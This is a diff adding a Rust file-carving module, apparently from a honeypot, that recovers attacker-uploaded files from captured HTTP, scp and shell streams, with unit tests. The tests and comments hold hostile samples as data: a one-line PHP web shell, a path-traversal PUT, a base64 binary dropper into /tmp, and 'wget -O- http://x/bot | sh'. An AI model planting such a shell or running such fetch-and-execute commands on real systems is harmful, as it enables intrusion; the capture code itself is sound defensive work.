@@ -0,0 +1,353 @@
+//! File carving: recovery of the files transferred inside a session's streams.
+//!
+//! Uploads the service daemons store themselves are collected by
+//! [`file_capture`](super::file_capture). Carving recovers the files that only
+//! exist in the captured bytes:
+//! - HTTP `PUT` bodies and the file parts of `multipart/form-data` requests, from
+//!   the client stream
+//! - files sent to an `scp -t` sink, base64 blobs and `\xNN` escaped bytes typed
+//!   in the shell, from stdin
+//! - executables printed to the terminal, e.g. `wget -O- http://x/bot | sh`
+//!   echoed back, from stdout
+//!
+//! Carving is best effort: each technique looks for the usual forms only, and a
+//! file found twice is kept once.
+
+use std::sync::OnceLock;
+
+use super::file_capture::{Digests, MAX_UPLOAD_LEN};
+use super::http_capture;
+use super::types::{CarveSource, CarvedFile};
+use regex::bytes::Regex;
+
+/// Shortest base64 run decoded, shorter ones are mostly keys and tokens
+const MIN_BASE64_LEN: usize = 64;
+
+/// Fewest `\xNN` escapes in a row making a file
+const MIN_HEX_ESCAPES: usize = 16;
+
+/// ELF magic number, marking executables in terminal output
+const ELF_MAGIC: &[u8] = b"\x7fELF";
+
+/// Files found in the client stream (`c2s`) and the stdio streams, in the order
+/// of the techniques above
+pub fn carve(c2s: &[u8], stdin: &[u8], stdout: &[u8]) -> Vec<CarvedFile> {
+    let mut found = http_uploads(c2s);
+    found.extend(scp_uploads(stdin));
+    found.extend(base64_blobs(stdin));
+    found.extend(hex_escapes(stdin));
+    found.extend(terminal_executables(stdout));
+
+    let mut files: Vec<CarvedFile> = Vec::with_capacity(found.len());
+    for (name, source, mut content, truncated) in found {
+        let truncated = truncated || content.len() > MAX_UPLOAD_LEN;
+        content.truncate(MAX_UPLOAD_LEN);
+        let digests = Digests::of(&content);
+        if files.iter().any(|file| file.sha256 == digests.sha256) {
+            continue;
+        }
+        let name = match name.as_deref().map(file_name) {
+            Some(name) if !name.is_empty() => name.to_string(),
+            _ => format!("carved-{}", files.len()),
+        };
+        files.push(CarvedFile {
+            name,
+            source,
+            sha256: digests.sha256,
+            md5: digests.md5,
+            sha1: digests.sha1,
+            content,
+            truncated,
+            virustotal: None,
+        });
+    }
+    files
+}
+
+/// A file before it is hashed: name if known, source, bytes and whether it was cut
+type Found = (Option<String>, CarveSource, Vec<u8>, bool);
+
+fn http_uploads(c2s: &[u8]) -> Vec<Found> {
+    let mut found = Vec::new();
+    for (request, body) in http_capture::requests(c2s, &[]) {
+        let announced = http_capture::header(&request.headers, "content-length")
+            .and_then(|len| len.parse::<usize>().ok());
+        let truncated = announced.is_some_and(|len| len > body.len());
+        if body.is_empty() {
+            continue;
+        }
+
+        let content_type = http_capture::header(&request.headers, "content-type").unwrap_or("");
+        if let Some(boundary) = multipart_boundary(content_type) {
+            found.extend(
+                multipart_files(&body, &boundary)
+                    .into_iter()
+                    .map(|(name, content)| (Some(name), CarveSource::HttpUpload, content, false)),
+            );
+        } else if request.method == "PUT" {
+            let path = request.path.split(['?', '#']).next().unwrap_or_default();
+            found.push((
+                Some(path.to_string()),
+                CarveSource::HttpUpload,
+                body,
+                truncated,
+            ));
+        }
+    }
+    found
+}
+
+/// Boundary of a `multipart/form-data` content type
+fn multipart_boundary(content_type: &str) -> Option<String> {
+    let (mime, params) = content_type.split_once(';')?;
+    if !mime.trim().eq_ignore_ascii_case("multipart/form-data") {
+        return None;
+    }
+    params.split(';').find_map(|param| {
+        let (name, value) = param.split_once('=')?;
+        name.trim()
+            .eq_ignore_ascii_case("boundary")
+            .then(|| value.trim().trim_matches('"').to_string())
+    })
+}
+
+/// Parts of a multipart body that carry a file name, with their content
+fn multipart_files(body: &[u8], boundary: &str) -> Vec<(String, Vec<u8>)> {
+    let delimiter = format!("--{}", boundary).into_bytes();
+    let mut files = Vec::new();
+    for part in split_on(body, &delimiter).into_iter().skip(1) {
+        // The closing delimiter is followed by "--"
+        if part.starts_with(b"--") {
+            break;
+        }
+        let part = part.strip_prefix(b"\r\n").unwrap_or(part);
+        let Some(head_len) = find(part, b"\r\n\r\n") else {
+            continue;
+        };
+        let head = String::from_utf8_lossy(&part[..head_len]);
+        let Some(name) = head.lines().find_map(|line| {
+            let (field, value) = line.split_once(':')?;
+            if !field.trim().eq_ignore_ascii_case("content-disposition") {
+                return None;
+            }
+            value.split(';').find_map(|param| {
+                let (key, value) = param.split_once('=')?;
+                (key.trim() == "filename").then(|| value.trim().trim_matches('"').to_string())
+            })
+        }) else {
+            continue;
+        };
+        let content = &part[head_len + 4..];
+        let content = content.strip_suffix(b"\r\n").unwrap_or(content);
+        files.push((name, content.to_vec()));
+    }
+    files
+}
+
+/// Files sent to an `scp -t` sink: a `C<mode> <size> <name>` line, then the bytes
+fn scp_uploads(stdin: &[u8]) -> Vec<Found> {
+    static HEADER: OnceLock<Regex> = OnceLock::new();
+    let header = HEADER.get_or_init(|| Regex::new(r"C[0-7]{4} (\d{1,12}) ([^\n/]+)\n").unwrap());
+
+    let mut found = Vec::new();
+    let mut pos = 0;
+    while let Some(captures) = header.captures_at(stdin, pos) {
+        let start = captures.get(0).unwrap().end();
+        let size: usize = String::from_utf8_lossy(&captures[1]).parse().unwrap_or(0);
+        let end = start.saturating_add(size).min(stdin.len());
+        let name = String::from_utf8_lossy(&captures[2]).into_owned();
+        found.push((
+            Some(name),
+            CarveSource::Scp,
+            stdin[start..end].to_vec(),
+            end - start < size,
+        ));
+        pos = end.max(start);
+    }
+    found
+}
+
+/// Long base64 runs that decode, named after the file they are redirected to
+fn base64_blobs(stdin: &[u8]) -> Vec<Found> {
+    use base64::Engine;
+
+    static BLOB: OnceLock<Regex> = OnceLock::new();
+    let blob = BLOB.get_or_init(|| {
+        Regex::new(&format!(r"[A-Za-z0-9+/]{{{},}}={{0,2}}", MIN_BASE64_LEN)).unwrap()
+    });
+
+    blob.find_iter(stdin)
+        .filter_map(|blob| {
+            let content = base64::engine::general_purpose::STANDARD
+                .decode(blob.as_bytes())
+                .ok()?;
+            Some((
+                redirect_target(stdin, blob.end()),
+                CarveSource::Base64,
+                content,
+                false,
+            ))
+        })
+        .collect()
+}
+
+/// Runs of `\xNN` escapes, as given to `printf` or `echo -e`
+fn hex_escapes(stdin: &[u8]) -> Vec<Found> {
+    static ESCAPES: OnceLock<Regex> = OnceLock::new();
+    let escapes = ESCAPES.get_or_init(|| {
+        Regex::new(&format!(r"(?:\\x[0-9a-fA-F]{{2}}){{{},}}", MIN_HEX_ESCAPES)).unwrap()
+    });
+
+    escapes
+        .find_iter(stdin)
+        .map(|run| {
+            let content = run
+                .as_bytes()
+                .chunks(4)
+                .filter_map(|escape| {
+                    u8::from_str_radix(std::str::from_utf8(&escape[2..]).ok()?, 16).ok()
+                })
+                .collect();
+            (
+                redirect_target(stdin, run.end()),
+                CarveSource::HexEscape,
+                content,
+                false,
+            )
+        })
+        .collect()
+}
+
+/// Executables printed to the terminal, from their magic number to the end of the
+/// output since their length is not known
+fn terminal_executables(stdout: &[u8]) -> Vec<Found> {
+    find(stdout, ELF_MAGIC)
+        .map(|start| {
+            vec![(
+                None,
+                CarveSource::TerminalOutput,
+                stdout[start..].to_vec(),
+                false,
+            )]
+        })
+        .unwrap_or_default()
+}
+
+/// File the rest of the line from `pos` writes to, e.g. `| base64 -d > /tmp/x`
+fn redirect_target(data: &[u8], pos: usize) -> Option<String> {
+    static REDIRECT: OnceLock<Regex> = OnceLock::new();
+    let redirect = REDIRECT.get_or_init(|| Regex::new(r">>?\s*([^\s;&|>]+)").unwrap());
+
+    let rest = &data[pos..];
+    let line = &rest[..find(rest, b"\n").unwrap_or(rest.len())];
+    redirect.captures(line).map(|captures| {
+        String::from_utf8_lossy(&captures[1])
+            .trim_matches(['\'', '"'])
+            .to_string()
+    })
+}
+
+/// Last component of a path
+fn file_name(path: &str) -> &str {
+    path.rsplit(['/', '\\']).next().unwrap_or(path)
+}
+
+fn find(data: &[u8], needle: &[u8]) -> Option<usize> {
+    data.windows(needle.len())
+        .position(|window| window == needle)
+}
+
+fn split_on<'a>(data: &'a [u8], delimiter: &[u8]) -> Vec<&'a [u8]> {
+    let mut parts = Vec::new();
+    let mut rest = data;
+    while let Some(pos) = find(rest, delimiter) {
+        parts.push(&rest[..pos]);
+        rest = &rest[pos + delimiter.len()..];
+    }
+    parts.push(rest);
+    parts
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn http_uploads_are_carved() {
+        let body = "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nhello\r\n\
+            --XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n\
+            <?php system($_GET[c]); ?>\r\n--XyZ--\r\n";
+        let c2s = format!(
+            "POST /upload.php HTTP/1.1\r\n\
+            Content-Type: multipart/form-data; boundary=XyZ\r\n\
+            Content-Length: {}\r\n\r\n{}\
+            PUT /dav/../../x.sh?a=1 HTTP/1.1\r\nContent-Length: 10\r\n\r\n#!/bin/sh\n",
+            body.len(),
+            body
+        );
+        let c2s = c2s.as_bytes();
+
+        let files = carve(c2s, b"", b"");
+        assert_eq!(files.len(), 2);
+        assert_eq!(files[0].name, "shell.php");
+        assert_eq!(files[0].content, b"<?php system($_GET[c]); ?>");
+        assert_eq!(files[0].source, CarveSource::HttpUpload);
+        assert_eq!(files[1].name, "x.sh");
+        assert_eq!(files[1].content, b"#!/bin/sh\n");
+        assert_eq!(
+            files[1].sha256,
+            "a8076d3d28d21e02012b20eaf7dbf75409a6277134439025f282e368e3305abf"
+        );
+    }
+
+    #[test]
+    fn files_typed_in_the_shell_are_carved() {
+        use base64::Engine;
+
+        let payload = b"\x7fELF\x02\x01\x01\x00 a dropped binary, long enough to be kept";
+        let encoded = base64::engine::general_purpose::STANDARD.encode(payload);
+        let mut stdin =
+            format!("echo {} | base64 -d > /tmp/.x; chmod +x /tmp/.x\n", encoded).into_bytes();
+        stdin.extend_from_slice(b"printf '");
+        for byte in b"#!/bin/sh\nwget http://x/y\n" {
+            stdin.extend_from_slice(format!("\\x{:02x}", byte).as_bytes());
+        }
+        stdin.extend_from_slice(b"' >> run.sh\nC0644 5 notes.txt\nhello\0");
+
+        let files = carve(b"", &stdin, b"");
+        let summary: Vec<(&str, CarveSource)> = files
+            .iter()
+            .map(|file| (file.name.as_str(), file.source))
+            .collect();
+        assert_eq!(
+            summary,
+            [
+                ("notes.txt", CarveSource::Scp),
+                (".x", CarveSource::Base64),
+                ("run.sh", CarveSource::HexEscape),
+            ]
+        );
+        assert_eq!(files[0].content, b"hello");
+        assert_eq!(files[1].content, payload);
+        assert_eq!(files[2].content, b"#!/bin/sh\nwget http://x/y\n");
+    }
+
+    #[test]
+    fn executables_in_terminal_output_are_carved_once() {
+        let stdout = b"Connecting to x... connected.\n\x7fELF\x02\x01binary";
+        // The same binary also pasted in base64
+        let stdin = format!("echo {}\n", "f0VMRgIBYmluYXJ5".repeat(5));
+        let elf = b"\x7fELF\x02\x01binary".repeat(5);
+        let output = [&b"Connecting to x... connected.\n"[..], &elf].concat();
+        let files = carve(b"", stdin.as_bytes(), &output);
+        assert_eq!(files.len(), 1);
+        assert_eq!(files[0].name, "carved-0");
+        assert_eq!(files[0].source, CarveSource::Base64);
+        assert!(files[0].content.starts_with(ELF_MAGIC));
+
+        let files = carve(b"", b"ls -la\n", stdout);
+        assert_eq!(files.len(), 1);
+        assert_eq!(files[0].source, CarveSource::TerminalOutput);
+        assert!(carve(b"", b"ls -la\n", b"total 0\n").is_empty());
+    }
+}